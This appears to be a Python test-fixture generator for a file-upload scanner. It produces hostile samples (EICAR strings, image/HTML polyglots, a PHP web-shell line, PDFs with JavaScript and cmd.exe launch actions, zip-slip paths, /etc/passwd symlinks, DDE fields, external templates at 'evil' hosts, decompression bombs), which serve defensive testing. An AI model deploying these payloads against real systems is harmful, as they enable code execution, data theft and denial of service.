"""Thousands of files that would do harm: made anew each time from a few dozens of ideas, so that none can be learnt by heart.

Each names the kind it pretends to be and the mark that must not be found in what is kept.
"""

from __future__ import annotations

import gzip
import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from integrations.clamav.simulator import EICAR

MARK = b"<script>alert(document.cookie)</script>"
PAGES = (
    MARK,
    b"<html><body onload=alert(1)>" + MARK,
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + MARK + b"</svg>",
    b"<!DOCTYPE html>" + MARK,
    b"<?php system($_GET[0]); ?>" + MARK,
    b"<IFRAME SRC=//evil>" + MARK,
    b"\xef\xbb\xbf<HTML>" + MARK,
)
ACTIONS = (
    "/S /JavaScript /JS (app.alert\\(1\\))",
    "/S /Launch /F (cmd.exe)",
    "/S /SubmitForm /F (http://evil)",
    "/S /ImportData /F (x)",
    "/S /GoToR /F (x.pdf)",
    "/S /GoToE",
    "/S /Rendition",
    "/Type /EmbeddedFile",
    "/EmbeddedFiles 5 0 R",
    "/Subtype /RichMedia",
    "/XFA [(template) 9 0 R]",
    "/Encrypt 7 0 R",
)
WAYS_OUT = ("../evil", "a/../../evil", "/etc/evil", "..\\evil", "C:\\evil", "\\evil", "a\\..\\..\\b")
SHEET_TYPES = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD_TYPES = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@dataclass(frozen=True, slots=True)
class Hostile:
    kind: str  # photo, scan, logo, voice, sheet, word, calendar
    idea: str
    content: bytes
    mark: bytes


def variants(seed: int) -> Iterator[Hostile]:
    dice = random.Random(seed)
    yield from _infected(dice)
    yield from _two_natures(dice)
    yield from _lively_pdfs(dice)
    yield from _containers(dice)
    yield from _floods(dice)
    yield from _pretenders()


def picture(form: str, dice: random.Random, size: tuple[int, int] = (12, 9)) -> bytes:
    target = io.BytesIO()
    Image.frombytes("RGB", size, dice.randbytes(size[0] * size[1] * 3)).save(target, form)
    return target.getvalue()


def pdf(body: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + body + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def voice() -> bytes:
    return b"\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\x82\x84webm" + b"\x16T\xaek\x86\x86A_OPUS" + bytes(2000)


def packed(parts: dict[str, bytes], *, links: tuple[str, ...] = (), level: int = 6) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name)
            entry.filename = name  # as it is given: the library would turn it round
            entry.compress_type = zipfile.ZIP_DEFLATED
            if name in links:
                entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, content)
    return target.getvalue()


def workbook(more: dict[str, bytes] | None = None, *, types: bytes = SHEET_TYPES, **options: object) -> bytes:
    parts = {
        "[Content_Types].xml": b"<Types>" + types + b"</Types>",
        "xl/workbook.xml": b"<workbook/>",
        **(more or {}),
    }
    return packed(parts, **options)  # type: ignore[arg-type]


def document(more: dict[str, bytes] | None = None, *, types: bytes = WORD_TYPES, **options: object) -> bytes:
    parts = {
        "[Content_Types].xml": b"<Types>" + types + b"</Types>",
        "word/document.xml": b"<w:document/>",
        **(more or {}),
    }
    return packed(parts, **options)  # type: ignore[arg-type]


def _deep(content: bytes, depth: int, dice: random.Random) -> bytes:
    for level in range(depth):
        wrap = dice.choice(["zip", "gzip"])
        content = gzip.compress(content) if wrap == "gzip" else packed({f"{level}.bin": content})
    return content


def _infected(dice: random.Random) -> Iterator[Hostile]:
    """The harmless virus in the open, behind something, and deep in archives."""
    for depth in range(7):
        for each in range(6):
            sample = _deep(dice.randbytes(dice.randrange(40)) + EICAR, depth, dice)
            idea = f"virus at depth {depth}.{each}"
            yield Hostile("sheet", idea, workbook({f"xl/media/{each}.dat": sample}), EICAR)
            yield Hostile("word", idea, document({f"word/media/{each}.png": sample}), EICAR)
            if depth:
                continue
            yield Hostile("sheet", idea, b"name;class\n" + sample, EICAR)
            yield Hostile("calendar", idea, b"BEGIN:VCALENDAR\r\n" + sample, EICAR)
            yield Hostile("scan", idea, pdf(sample), EICAR)
            yield Hostile("voice", idea, voice() + sample, EICAR)
            for form in ("JPEG", "PNG"):
                for kind in ("photo", "scan", "logo"):
                    yield Hostile(kind, f"{idea} behind {form}", picture(form, dice) + sample, EICAR)


def _two_natures(dice: random.Random) -> Iterator[Hostile]:
    """A picture, a paper or a sound that is a page or an archive too."""
    others = [*PAGES, packed({"evil.html": MARK}), packed({"META-INF/MANIFEST.MF": b"x", "A.class": MARK})]
    for each in range(12):
        for number, other in enumerate(others):
            noise = dice.randbytes(dice.randrange(200))
            for form in ("JPEG", "PNG"):
                for kind in ("photo", "scan", "logo"):
                    shot = picture(form, dice)
                    yield Hostile(kind, f"{form} and then {number}.{each}", shot + noise + other, other)
            shot = picture("JPEG", dice)
            comment = other[:60_000]
            told = shot[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + shot[2:]
            png = picture("PNG", dice)
            text = b"tEXt" + b"Comment\0" + other
            chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
            for kind in ("photo", "scan", "logo"):
                yield Hostile(kind, f"JPEG that says {number}.{each}", told, other)
                yield Hostile(kind, f"PNG that says {number}.{each}", png[:33] + chunk + png[33:], other)
            yield Hostile("scan", f"PDF and then {number}.{each}", pdf() + other + b"\n%%EOF", other)
            yield Hostile("scan", f"PDF with {number}.{each}", pdf(b"%" + other), other)
            yield Hostile("voice", f"sound and then {number}.{each}", voice() + noise + other, other)
            yield Hostile("sheet", f"workbook behind {number}.{each}", other + workbook(), other)
            yield Hostile("word", f"document and then {number}.{each}", document() + other, other)


def _lively_pdfs(dice: random.Random) -> Iterator[Hostile]:
    """Papers that act when they are opened: named plainly, by numbers of letters, inside packed objects."""
    for number, action in enumerate(ACTIONS):
        for each in range(30):
            said = _spelt(action, dice) if each % 2 else action
            inner = f"<< {said} >>".encode()
            idea = f"action {number}.{each}"
            loose = b"9 0 obj\n" + b"% " + dice.randbytes(8).hex().encode() + b"\n" + inner + b"\nendobj\n"
            yield Hostile("scan", idea, pdf(loose), inner)
            yield Hostile("scan", f"{idea} packed", pdf(_object_stream(inner, dice)), b"/ObjStm")
            fake = b"% obj /Image stream\n" + loose + b"% endstream\n"
            yield Hostile("scan", f"{idea} behind a comment", pdf(fake), inner)
    odd = b"8 0 obj\n<< /Type /ObjStm /Filter /LZWDecode /N 1 >>\nstream\nabc\nendstream\nendobj\n"
    yield Hostile("scan", "packed by what nobody unpacks", pdf(odd), b"/ObjStm")
    far = (
        b"8 0 obj\n<< /Type /ObjStm /X (" + b"x" * 5000 + b") /Filter /FlateDecode >>\nstream\nabc\nendstream"
    )
    yield Hostile("scan", "packed far from its name", pdf(far), b"/ObjStm")
    bomb = _object_stream(bytes(60_000_000), dice)
    yield Hostile("scan", "packed bomb", pdf(bomb), b"/ObjStm")


def _spelt(action: str, dice: random.Random) -> str:
    """Some letters of the names by their numbers."""
    words = []
    for word in action.split(" "):
        if word.startswith("/") and len(word) > 4:
            place = dice.randrange(1, len(word))
            word = f"{word[:place]}#{ord(word[place]):02{dice.choice('xX')}}{word[place + 1 :]}"
        words.append(word)
    return " ".join(words)


def _object_stream(inner: bytes, dice: random.Random) -> bytes:
    name = dice.choice([b"/ObjStm", b"/Obj#53tm", b"/#4fbjStm"])
    body = zlib.compress(b"9 0 " + inner, dice.randrange(1, 10))
    end = dice.choice([b"\n", b"\r\n"])
    return (
        b"8 0 obj\n<< /Type "
        + name
        + b" /Filter /FlateDecode /N 1 >>\nstream"
        + end
        + body
        + b"\nendstream\nendobj\n"
    )


def _containers(dice: random.Random) -> Iterator[Hostile]:
    """Archives that climb out, hide programs, or never end."""
    for make, kind, root in ((workbook, "sheet", "xl"), (document, "word", "word")):
        for way in WAYS_OUT:
            for each in range(4):
                parts = {f"{way}{each}": dice.randbytes(50)}
                yield Hostile(kind, f"way out {way}", make(parts), b"evil")
        for each in range(20):
            name = f"{root}/{each}.xml"
            yield Hostile(kind, "link", make({name: b"/etc/passwd"}, links=(name,)), b"/etc/passwd")
            project = "".join(dice.choice([letter.lower(), letter.upper()]) for letter in "vbaProject.bin")
            yield Hostile(kind, "macro", make({f"{root}/{project}": dice.randbytes(90)}), project.encode())
            kept = SHEET_TYPES if kind == "sheet" else WORD_TYPES
            types = kept + dice.choice([b"macroEnabled", b"MacroEnabled", b"macroenabled"])
            yield Hostile(kind, "macro by its type", make(types=types), types)
        for size in (30, 60, 90, 120, 200):
            swollen = make({f"{root}/big.xml": bytes(size * 1_000_000)}, level=9)
            yield Hostile(kind, f"bomb of {size} MB", swollen, b"big.xml")
        many = {f"{root}/{number}.xml": b"" for number in range(2_100)}
        yield Hostile(kind, "too many entries", make(many), b"2099.xml")
        twice = make({f"{root}/a.xml": b"one"})
        yield Hostile(kind, "entries over each other", _shared_entries(200), b"shared")
        yield Hostile(kind, "something behind", twice + dice.randbytes(30), b"a.xml")
        yield Hostile(kind, "something before", dice.randbytes(30) + twice, b"a.xml")
    for name in ("word/embeddings/a.bin", "word/activeX/x.xml", "word/afchunk.htm", "word/vbaData.xml"):
        yield Hostile("word", name, document({name: MARK}), name.encode())
    tie = (
        b'<Relationships><Relationship Type="attachedTemplate" Target="http://evil" TargetMode="External"/>'
        b"</Relationships>"
    )
    yield Hostile("word", "template from outside", document({"word/_rels/settings.xml.rels": tie}), b"evil")
    for field in (b"DDEAUTO c:\\evil", b"INCLUDETEXT evil", b'LINK evil "x"'):
        text = b"<w:document><w:instrText>" + field + b"</w:instrText></w:document>"
        yield Hostile("word", "field that fetches", document({"word/document.xml": text}), b"evil")
    entity = b'<!DOCTYPE a [<!ENTITY e "evil">]><w:document/>'
    yield Hostile("word", "entity", document({"word/document.xml": entity}), b"evil")


def _shared_entries(count: int) -> bytes:
    """One packed body under many names: the list is as long as the bytes are few."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", SHEET_TYPES + WORD_TYPES)
        archive.writestr("xl/workbook.xml", b"")
        archive.writestr("word/document.xml", b"")
        archive.writestr("shared", bytes(100_000))
        entry = archive.getinfo("shared")
        for number in range(count):
            other = zipfile.ZipInfo(f"shared{number}")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type", "flag_bits"):
                setattr(other, field, getattr(entry, field))
            archive.filelist.append(other)
            archive.NameToInfo[other.filename] = other
        archive._didModify = True  # type: ignore[attr-defined]
    return target.getvalue()


def _floods(dice: random.Random) -> Iterator[Hostile]:
    """Kilobytes that say they are gigabytes."""
    sizes = [
        (60_000, 60_000),
        (5_001, 5_000),
        (400_000, 100),
        (2**31 - 1, 1),
        (1, 2**31 - 1),
        (30_000, 30_000),
    ]
    for width, height in sizes:
        for each in range(6):
            head = struct.pack(">IIBBBBB", width, height, 8, dice.choice([0, 2, 6]), 0, 0, 0)
            parts = (b"IHDR" + head, b"IDAT" + zlib.compress(bytes(20_000 + each), 9), b"IEND")
            png = b"\x89PNG\r\n\x1a\n" + b"".join(
                struct.pack(">I", len(part) - 4) + part + struct.pack(">I", zlib.crc32(part))
                for part in parts
            )
            shot = bytearray(picture("JPEG", dice))
            place = shot.find(b"\xff\xc0")
            shot[place + 5 : place + 9] = struct.pack(">HH", min(height, 65_535), min(width, 65_535))
            for kind in ("photo", "scan", "logo"):
                yield Hostile(kind, f"PNG of {width}×{height}", png, b"IHDR" + head)
                if min(width, height) > 5_000:
                    yield Hostile(
                        kind, f"JPEG of {width}×{height}", bytes(shot), bytes(shot[place : place + 9])
                    )


def _pretenders() -> Iterator[Hostile]:
    """What is something else altogether, under every name."""
    others = [
        *PAGES,
        b"MZ\x90\x00" + MARK,
        b"\x7fELF" + MARK,
        b"#!/bin/sh\n" + MARK,
        b"Rar!\x1a\x07\x00" + MARK,
        b"7z\xbc\xaf\x27\x1c" + MARK,
        b"{\\rtf1 " + MARK,
        b"GIF89a" + MARK,
        b"RIFF\0\0\0\0WEBP" + MARK,
        b"<?xml version='1.0'?><html>" + MARK,
        packed({"evil.exe": MARK}),
        gzip.compress(MARK),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le") + MARK,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + MARK,
    ]
    for number, other in enumerate(others):
        for kind in ("photo", "scan", "logo", "voice", "word"):
            yield Hostile(kind, f"pretender {number}", other, other)
        if other[:2] not in (b"MZ", b"\x7fE", b"#!"):  # without a program that runs it, text is text
            yield Hostile("sheet", f"pretender {number}", other, other)
